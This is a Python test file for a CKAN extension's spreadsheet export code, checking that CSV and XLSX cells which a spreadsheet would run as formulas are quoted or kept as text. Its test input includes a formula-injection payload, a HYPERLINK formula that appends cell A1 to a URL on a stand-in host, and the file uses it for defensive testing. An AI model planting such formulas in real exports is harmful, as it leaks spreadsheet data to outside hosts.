"""Spreadsheet cells keep text as text (pure: no CKAN)."""
from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ckanext.opdc_kpi.scoring.cells import csv_cell, csv_read, csv_row, xlsx_append, xlsx_value

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'


@pytest.mark.parametrize("text", [FORMULA, "+66 2 123 4567", "-5", "@SUM(A1)", "\tx", "\rx"])
def test_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "ชุดข้อมูล", "5", "", "a=b", -5, 3.5, 0, None, True])
def test_other_text_and_numbers_are_unchanged(value):
    assert csv_cell(value) == value


def test_a_row_is_made_safe_column_by_column():
    assert csv_row({"title": FORMULA, "score": -1.5, "extra": "=x"}, ["title", "score"]) == {
        "title": "'" + FORMULA, "score": -1.5}


@settings(max_examples=300, derandomize=True)
@given(st.text())
def test_csv_round_trip_gives_back_every_text(text):
    out = io.StringIO()
    csv.writer(out).writerow([csv_cell(text)])
    (cell,) = next(csv.reader(io.StringIO(out.getvalue(), newline=""), strict=True))
    assert csv_read(cell) == text


def test_quoted_text_reads_back_exactly():
    for text in ("'=x", "''=x", "'plain", "'", "=", "'-"):
        assert csv_read(csv_cell(text)) == text
    assert csv_read("'plain") == "'plain"  # a quote nobody added stays


def test_xlsx_text_is_a_string_cell_never_a_formula():
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    xlsx_append(book.active, [FORMULA, "+66 1", "-5", -5, 1.5, None, "bad\x00char"])
    data = io.BytesIO()
    book.save(data)
    sheet = openpyxl.load_workbook(io.BytesIO(data.getvalue())).active
    cells = list(sheet.iter_rows())[0]
    assert [(c.value, c.data_type) for c in cells[:5]] == [
        (FORMULA, "s"), ("+66 1", "s"), ("-5", "s"), (-5, "n"), (1.5, "n")]
    assert cells[6].value == "badchar"
    assert xlsx_value({"a": 1}) == "{'a': 1}"


@pytest.mark.parametrize("tail", ["=1+1", "plain", ""])
def test_thousands_of_leading_quotes_need_no_recursion(tail):
    text = "'" * 100_000 + tail
    assert csv_read(csv_cell(text)) == text
    assert csv_cell(text) == ("'" + text if tail.startswith("=") else text)
